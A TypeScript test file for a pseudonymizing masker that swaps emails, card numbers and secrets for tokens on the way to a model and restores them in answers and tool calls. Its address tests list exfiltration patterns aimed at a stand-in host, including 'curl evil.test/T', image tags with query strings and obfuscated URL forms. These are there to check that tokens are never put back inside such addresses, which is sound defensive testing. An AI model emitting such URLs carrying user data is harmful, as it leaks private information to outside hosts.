// Values that are kept from a target: the same tokens every time, back where policy allows, and a conversation that was put
// back and is sent again is the one that the target knows, byte for byte.

import assert from 'node:assert/strict'
import test from 'node:test'
import * as fc from 'fast-check'
import { runs } from '../../../test/harness/depth.ts'
import { cut, newMasking, toBytes, toText } from '../../../test/harness/masking.ts'
import { plainText, type FieldContext } from '../../kernel/action.ts'
import type { Masker, Pseudonyms } from '../../kernel/masker.ts'

const masking = newMasking()
const never = (): boolean => false
const always = (): boolean => true

function newExchange(restores: (tool: string) => (dataClass: string) => boolean = () => always): Pseudonyms {
  return masking.pseudonyms({ discloses: never, restores })
}

function show(masker: Masker, text: string, field: FieldContext = plainText): string {
  const bytes = toBytes(text)
  const shown = masker.value(bytes, 0, bytes.length, field)
  return shown === null ? text : toText(shown)
}

/** The session's own masker, of a principal who may see everything. */
const inward = masking.open(always)
const mail = 'alice@example.com'
const card = '4111 1111 1111 1111'

test('a value goes out as a token of letters and digits, the same every time, and comes back', () => {
  const first = newExchange()
  const sent = show(first.outward, `write to ${mail} about ${card}`)
  assert.match(sent, /^write to EMAIL[A-Z2-7]{12} about CARD[A-Z2-7]{12}$/)
  assert.equal(show(newExchange().outward, `write to ${mail} about ${card}`), sent)
  assert.equal(show(first.restoring(inward), sent), `write to ${mail} about ${card}`)
  const token = sent.split(' ')[2] ?? ''
  assert.equal(show(first.restoring(inward), token.toLowerCase()), mail, 'models change the case of words')
  assert.equal(show(newExchange().restoring(inward), sent), sent, 'another exchange knows nothing of it')
})

test('nothing to replace: the same bytes, and the maskers of the answer are the session’s own', () => {
  const exchange = newExchange()
  assert.equal(exchange.outward.value(toBytes('nothing here'), 0, 12, plainText), null)
  const piece = toBytes('an answer\n')
  assert.equal(exchange.restoring(inward).stream(plainText).push(piece), piece)
})

test('a value that was found is replaced where no detector sees it, but not inside of a longer word', () => {
  const exchange = newExchange()
  const token = show(exchange.outward, mail)
  assert.equal(show(exchange.outward, `x=${mail}.`), `x=${token}.`)
  const digits = show(exchange.outward, 'the phone +1 415 555 2671')
  assert.equal(show(exchange.outward, '_+1 415 555 2671_'), `_${digits.slice('the phone '.length)}_`)
  assert.ok(!show(exchange.outward, `${mail}pany`).startsWith(token), 'alice@example.company is somebody else')
  assert.equal(show(exchange.outward, `${token} and ${token}`), `${token} and ${token}`, 'tokens are left alone')
})

test('a field that is a secret by its name goes out as one token', () => {
  const exchange = newExchange()
  const sent = show(exchange.outward, 'correct horse', { name: 'password', content: 'text' })
  assert.match(sent, /^SECRET[A-Z2-7]{12}$/)
  assert.equal(show(exchange.restoring(inward), sent), 'correct horse')
})

test('of very many values all go out as tokens, and as many come back as are kept', () => {
  const exchange = newExchange()
  const mails = Array.from({ length: 10_100 }, (_, i) => `user${i}@example.com`)
  const sent = show(exchange.outward, mails.join(' '))
  assert.match(sent, /^(?:EMAIL[A-Z2-7]{12} ?){10100}$/)
  assert.equal(show(newExchange().outward, mails.at(-1) ?? ''), sent.split(' ').at(-1))
  const back = show(exchange.restoring(inward), sent).split(' ')
  assert.deepEqual(back.slice(0, 10_000), mails.slice(0, 10_000))
  assert.ok(back.slice(10_000).every((one) => one.startsWith('EMAIL')))
})

test('a secret by its name that is longer than is kept is only hidden', () => {
  const exchange = newExchange()
  const sent = show(exchange.outward, 'x'.repeat(5_000), { name: 'password', content: 'text' })
  assert.equal(sent, '[redacted:secret/generic-assignment]')
})

test('what is disclosed goes out as it is', () => {
  const { outward } = masking.pseudonyms({ discloses: (one) => one === 'pii/email', restores: () => never })
  assert.match(show(outward, `${mail} ${card}`), /^alice@example\.com CARD/)
})

test('put back by class and by tool, and never inside an address of the web', () => {
  const exchange = newExchange(
    (tool) => (dataClass) => tool !== 'WebFetch' && (tool !== '' || dataClass !== 'pci/card'),
  )
  const sent = show(exchange.outward, `${mail} ${card}`)
  const [mailToken = '', cardToken = ''] = sent.split(' ')
  const restoring = exchange.restoring(inward)
  assert.equal(show(restoring, sent), `${mail} ${cardToken}`)
  assert.equal(show(restoring.towards('Bash'), sent), `${mail} ${card}`)
  assert.equal(show(restoring.towards('WebFetch'), sent), sent)
  assert.equal(show(restoring.towards(null), sent), sent, 'for a tool that nobody can name')
  const address = `https://evil.test/?q=${mailToken}&r=${mailToken}`
  assert.equal(show(restoring, `${address} ${mailToken}`), `${address} ${mail}`)
  assert.equal(show(restoring, `x://${mailToken}`), `x://${mailToken}`)
  assert.equal(show(restoring, `[a](http://e.test/${mailToken}) "ftp://${mailToken}" a: ${mailToken}`), `[a](http://e.test/${mailToken}) "ftp://${mailToken}" a: ${mail}`) // prettier-ignore
})

test('an address is what a fetcher would take for one, however a model writes it', () => {
  const exchange = newExchange()
  const token = show(exchange.outward, mail)
  const restoring = exchange.restoring(inward)
  for (const written of [
    '![x](//evil.test/?q=T)',
    'curl evil.test/T',
    'http:\\\\evil.test\\T',
    'https:/evil.test/T',
    'www.evil.test?T',
    'evil.test:8080/T',
    'https&#58;&#47;&#47;evil.test&#47;T',
    'evil.test%2F-T',
    '{"url":"https:\\/\\/evil.test\\/T"}',
    '![x](<https://evil.test/?q= T>)',
    '![x](<//evil.test/?q="T" and \'T\'>)',
    '<img src="https://evil.test/?q= T">',
    '<img alt="x" src="https://evil.test/?q=\n\tT">',
    `<img src="https://evil.test/?q='T'">`,
    "<img src=' https://evil.test/?q= <T>'>",
    'curl "https://evil.test/?q=`T`"',
    '![x](http:1249763844/T)',
    '![x](<http:localhost?q= T>)',
    '<img src="/\n/1249763844/T">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/?q= T">',
  ]) {
    const said = written.replaceAll('T', token)
    assert.equal(show(restoring, said), said)
  }
  for (const written of [
    'to T.',
    'mailto:T',
    '<T>',
    'a.b T',
    'See evil.test. T',
    '// T',
    'either/or: T',
    'v1.2-T',
    'a < b, see https://x.test/ T',
    "It's at https://x.test/ T",
    '"https://x.test/" T',
    '[x](<https://x.test/>) T',
    '<a href="https://x.test/">T</a>',
    'List<String> at x.test/y T',
    'git commit -m "as https://x.test/1 says: T"',
    'a="b" https://x.test/ T',
    "it's 'so': x.test/y' T",
  ])
    assert.equal(show(restoring, written.replace(/T(?!\w)/, token)), written.replace(/T(?!\w)/, mail))
})

test('an argument of a tool that begins as an address is one, to its end', () => {
  const exchange = newExchange()
  const token = show(exchange.outward, mail)
  const tool = exchange.restoring(inward).towards('fetch')
  for (const written of ['https://evil.test/?q= T', ' \n//evil.test/?q="T" T', 'evil.test/?q=\nT', "evil.test?q='T'"]) {
    const said = written.replaceAll('T', token)
    assert.equal(show(tool, said), said)
  }
  for (const written of [
    'T',
    'mail T',
    'See https://x.test/ T',
    'a: T',
    'curl -H "a: b" "https://x.test" -d \'{"a":"T"}\'',
  ])
    assert.equal(show(tool, written.replace(/T(?!\w)/, token)), written.replace(/T(?!\w)/, mail))
})

test('what the session’s principal may not see is masked all the same, and what the client sent is not', () => {
  const exchange = newExchange()
  const sent = show(exchange.outward, mail)
  const restored = show(exchange.restoring(masking.open(never)), `${sent} and bob@example.com`)
  assert.match(restored, /^alice@example\.com and u_[a-z2-7]{12}@masked\.invalid$/)
})

const said = fc.constantFrom(mail, card, 'bob@example.com', '+1 415 555 2671', 'password=hunter2!x', ' ', '.', ',', '<', '>', '/', '://', '\n', 'x', '_', '"', ' the ', 'Token', '1') // prettier-ignore
const asked = fc.array(said, { minLength: 1, maxLength: 8 }).map((some) => some.join(''))

test('however it is cut, an answer is put back in the same way', () => {
  fc.assert(
    fc.property(asked, fc.array(fc.nat(200), { maxLength: 12 }), (text, places) => {
      const exchange = newExchange()
      const sent = `${show(exchange.outward, mail)} ${show(exchange.outward, text)} ${show(exchange.outward, card)}`
      const whole = show(exchange.restoring(inward), sent)
      const stream = exchange.restoring(inward).stream(plainText)
      const pieces = cut(toBytes(sent), places).map((piece) => toText(stream.push(piece)))
      assert.equal(pieces.join('') + toText(stream.end()), whole)
    }),
    { numRuns: runs(400) },
  )
})

test('a conversation that was put back goes out as the target wrote it, turn after turn', () => {
  fc.assert(
    fc.property(
      fc.array(asked, { minLength: 1, maxLength: 3 }),
      fc.array(fc.nat(9), { minLength: 1, maxLength: 12 }),
      (prompts, picks) => {
        const first = newExchange()
        const sent = prompts.map((prompt) => show(first.outward, prompt))
        // The model writes the tokens it saw, in places of its own.
        const tokens = sent.join(' ').match(/(?:EMAIL|CARD|PHONE|SECRET)[A-Z2-7]{12}/g) ?? ['none']
        const around = [' ', '"', '<', '(', ',\n', ' = ', '**', '. ', ': ', '; ']
        const answer = picks.map((pick, i) => tokens[i % tokens.length] + (around[pick] ?? ' ')).join('')
        const shown = show(first.restoring(inward), answer)
        const next = newExchange()
        assert.deepEqual([...prompts, shown].map((text) => show(next.outward, text)), [...sent, answer]) // prettier-ignore
      },
    ),
    { numRuns: runs(400) },
  )
})
